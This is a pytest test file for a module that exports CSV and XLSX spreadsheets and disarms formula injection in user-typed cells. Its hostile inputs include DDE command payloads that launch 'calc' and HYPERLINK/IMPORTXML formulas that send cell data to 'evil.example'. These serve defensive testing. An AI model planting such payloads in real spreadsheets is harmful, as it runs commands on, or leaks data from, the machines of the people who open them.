"""Nothing that somebody typed is a formula in a file of ours, whoever reads it and with whatever settings."""

import csv
import io
import itertools
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.utils import translation

from content import sheets
from content.sheets import csv_file, disarm, is_formula, plain, xlsx_file

MARKS = [
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "﹦",
    "﹢",
    "﹣",
    "﹫",
    "⁺",
    "⁼",
    "⁻",
    "−",
    "–",
    "—",
    "‐",
    "➕",
    "➖",
    "﬩",
    "🟰",
]
BEFORE = [
    *("", " ", "\t", "\r", "\n", "\r\n", "\x0b", "\xa0", "\u3000", "\u200b", "\u200c", "\u200e", "\u200f", "\ufeff"),
    *(
        '"',
        '""',
        "\u202e",
        "\u2066",
        "\u00ad",
        "\u0301",
        "a\n",
        "a;",
        "a\r",
        'a";',
        "a;\t",
        'a;"',
        ";;",
        "a\u2028",
        "\x85",
    ),
]
AFTER = [
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1;"go")',
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "سیما",
    'DDE("cmd";"/C calc";"x")',
]
HOSTILE = ["".join(parts) for parts in itertools.product(BEFORE, MARKS, AFTER)]
ORDINARY = [
    "Sima",
    "سیما و دو همراه",
    "۱۴ نفر",
    "Ciarán O'Brien",
    "sima@example.org",
    "half past six - or seven",
    "a,b",
    'the "tall" one',
    "two\nlines",
    "1+1=2",
    "",
]


def read_csv(data: bytes, **options) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), **options))


def read_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def begins_a_formula(cell: str) -> bool:
    """An opinion of its own: the first letter that one sees is a mark, or is drawn like one."""
    visible = cell.lstrip(' \t\r\n\x0b\xa0\u3000\u200b\u200c\u200e\u200f\ufeff\u202e\u2066\u00ad\u0301\u2028\x85"')
    return visible[:1] in MARKS and visible != ""


def test_there_are_thousands_of_hostile_texts_and_each_is_one():
    assert len(HOSTILE) > 4000
    assert all(any(mark in text for mark in MARKS) for text in HOSTILE)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_csv_begins_a_formula_whatever_separates_cells(separator):
    """The second and third are how programs with other settings read the same file: cells may begin anywhere there."""
    rows = [[text, 2, text] for text in HOSTILE]

    read = read_csv(csv_file(["Name", "Party", "Answer"], rows), delimiter=separator)

    assert [cell for row in read for cell in row if begins_a_formula(cell)] == []


def test_control_without_the_apostrophe_they_would_be_formulas(monkeypatch):
    monkeypatch.setattr(sheets, "disarm", lambda text: text)

    read = read_csv(csv_file(["Name"], [[text] for text in HOSTILE]))

    assert sum(begins_a_formula(row[0]) for row in read) > 2000


def test_every_cell_of_a_spreadsheet_says_itself_that_it_is_text():
    rows = [[text, 2] for text in HOSTILE]

    sheet = read_xlsx(xlsx_file(["Name", "Party"], rows, title="Guests"))

    names = [cell for cell in sheet["A"][1:] if cell.value is not None]
    assert len(names) == len(HOSTILE)
    assert {cell.data_type for cell in names} == {"s"}
    assert {cell.number_format for cell in names} == {"@"}
    assert all(cell.quotePrefix for cell in names)
    assert {(cell.data_type, cell.value) for cell in sheet["B"][1:]} == {("n", 2)}


def test_the_spreadsheet_holds_no_formula_no_link_and_nothing_from_elsewhere():
    data = xlsx_file(
        ["Name"], [[text] for text in [*HOSTILE, "http://evil.example", "mailto:a@b.example"]], title="Guests"
    )

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        names = archive.namelist()
    assert "<f" not in sheet.replace("<formatPr", "")
    assert "hyperlink" not in sheet
    assert [name for name in names if "external" in name.lower() or "vba" in name.lower()] == []


def test_control_a_formula_would_be_read_as_one():
    import xlsxwriter

    file = io.BytesIO()
    with xlsxwriter.Workbook(file, {"in_memory": True}) as book:
        book.add_worksheet().write(0, 0, "=1+1")

    assert read_xlsx(file.getvalue())["A1"].data_type == "f"


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_comes_back_as_it_was(text):
    assert read_csv(csv_file(["Name"], [[text]]))[1] == [text]
    assert (read_xlsx(xlsx_file(["Name"], [[text]], title="Guests"))["A2"].value or "") == text


def test_a_spreadsheet_keeps_hostile_text_letter_by_letter():
    """Typed as text it needs no apostrophe: a telephone number stays one."""
    sheet = read_xlsx(xlsx_file(["Name"], [["+49 30 1234"], ["=1+1"]], title="Guests"))

    assert [cell.value for cell in sheet["A"]] == ["Name", "+49 30 1234", "=1+1"]


def test_numbers_stay_numbers_in_ascii_and_text_keeps_its_own_digits():
    with translation.override("fa"):
        table = csv_file(["نام", "چند نفر"], [["سیما ۱۲", 3]])
        sheet = read_xlsx(xlsx_file(["نام", "چند نفر"], [["سیما ۱۲", 3]], title="مهمانان"))

    assert read_csv(table) == [["نام", "چند نفر"], ["سیما ۱۲", "3"]]
    assert [cell.value for cell in sheet[2]] == ["سیما ۱۲", 3]
    assert (sheet.sheet_view.rightToLeft, sheet.title) == (True, "مهمانان")


def test_a_csv_says_that_it_is_utf_8_and_quotes_everything():
    data = csv_file(["Name"], [['the "tall" one']])

    assert data == b'\xef\xbb\xbf"Name"\r\n"the ""tall"" one"\r\n'


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("two\r\nlines", "two\nlines"),
        ("two\rlines", "two\nlines"),
        ("two\u2028lines", "two\nlines"),
        ("a\tb", "a b"),
        ("bell\x07", "bell"),
        ("half \ud800 letter", "half  letter"),
        ("none\uffff", "none"),
        ("x" * 40_000, "x" * 32_000),
    ],
)
def test_text_that_no_file_could_hold_is_put_right(text, kept):
    assert plain(text) == kept
    assert read_csv(csv_file([text], []))[0] == [kept]
    assert read_xlsx(xlsx_file([text], [], title="Guests"))["A1"].value == kept


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1", "'=1"),
        (" =1", "' =1"),
        ("a\n=1", "a\n'=1"),
        ("a;=1", "a;'=1"),
        ("a =1", "a =1"),
        ("a@b.example", "a@b.example"),
        ("'=1", "'=1"),
        ("...", "..."),
        ("—", "'—"),
        ("", ""),
    ],
)
def test_where_the_apostrophe_goes(text, safe):
    assert disarm(text) == safe


@pytest.mark.parametrize("text", ["", " ", "\u200c", "0", "۱۲", "سیما", "x=1", "(1)", "#1", "%1"])
def test_what_is_no_formula_is_left_alone(text):
    assert is_formula(text) is False


@pytest.mark.parametrize("title", ["[all]: a/b\\c*?", "x" * 50, "'Guests'"])
def test_a_sheet_can_be_named_anything(title):
    assert len(read_xlsx(xlsx_file(["Name"], [], title=title)).title) <= 31


def test_amounts_are_numbers_that_a_spreadsheet_can_add_up():
    rows = [["Gift", Decimal("1250.50")], ["Gift", Decimal("-20")]]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_file(["What", "How much"], rows, title="Gifts")))
    assert [cell.value for cell in book.active["B"]] == ["How much", 1250.5, -20]
    assert '"1250.50"' in csv_file(["What", "How much"], rows).decode("utf-8-sig")
